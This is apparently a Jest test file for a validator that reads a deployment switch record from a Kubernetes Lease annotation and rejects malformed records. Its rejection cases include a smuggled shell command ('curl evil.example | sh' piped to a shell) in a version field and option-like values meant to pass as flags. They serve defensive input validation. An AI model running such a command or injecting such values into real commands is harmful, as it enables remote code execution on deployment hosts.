import { describe, expect, it } from '@jest/globals';
import { ANNOTATION, readRecord, type SwitchRecord } from '../../../../scripts/switch/lock/switch-record.ts';

const record: SwitchRecord = {
  id: '0123abcd',
  from: 'v1',
  to: '2026-11-23',
  phase: 'running',
  startedAt: '2026-11-23T12:00:00.000Z',
};
const read = (text: string) =>
  readRecord({ metadata: { name: 'switch-shop', annotations: { [ANNOTATION]: text } }, spec: {} });

describe('the record of a switch, in the annotation of its Lease', () => {
  it('the record of a switch is read as it was written', () => {
    expect(read(JSON.stringify(record))).toEqual(record);
    const second = { ...record, attempt: 2, proven: '3f1c9a77/4' };
    expect(read(JSON.stringify(second))).toEqual(second);
  });

  const adopts = {
    deployment: 'coffee-shop',
    hash: '5ff868d745',
    makes: { routes: false, subsets: true },
    annotations: { 'zero-downtime/virtual-service': 'shop-ways' },
  };

  it('what an adoption has found is read as it was written', () => {
    const adopting = { ...record, from: 'plain', adopts };
    expect(read(JSON.stringify(adopting))).toEqual(adopting);
  });

  it.each([
    ['no hash', { hash: undefined }],
    ['a hash that is a selector', { hash: 'a,b!=c' }],
    ['no word of what it makes', { makes: {} }],
    ['a Deployment that is an option', { deployment: '--all' }],
    ['an annotation of somebody else', { annotations: { 'kubectl.kubernetes.io/restartedAt': 'now' } }],
    ['an annotation that is no text', { annotations: { 'zero-downtime/virtual-service': 7 } }],
  ])('an annotation is no record of an adoption with %s', (_what, change) => {
    expect(read(JSON.stringify({ ...record, adopts: { ...adopts, ...change } }))).toBeUndefined();
  });

  it.each([
    ['a version that a shell would take for more', { to: 'v2; curl evil.example | sh' }],
    ['a version that is an option', { from: '--undo' }],
    ['another phase', { phase: 'constructor' }],
    ['no time', { startedAt: 'v2\n ✓ all done' }],
    ['a number for a name', { id: 7 }],
    ['a run that is none', { attempt: 'v2' }],
    ['a revision that is none', { proven: 7 }],
  ])('an annotation is no record with %s', (_what, change) => {
    expect(read(JSON.stringify({ ...record, ...change }))).toBeUndefined();
  });

  it.each(['', 'null', '7', '[]', '"v2"', '{}', '{"to":'])(
    'an annotation is no record when it is %j',
    (text) => {
      expect(read(text)).toBeUndefined();
    },
  );
});
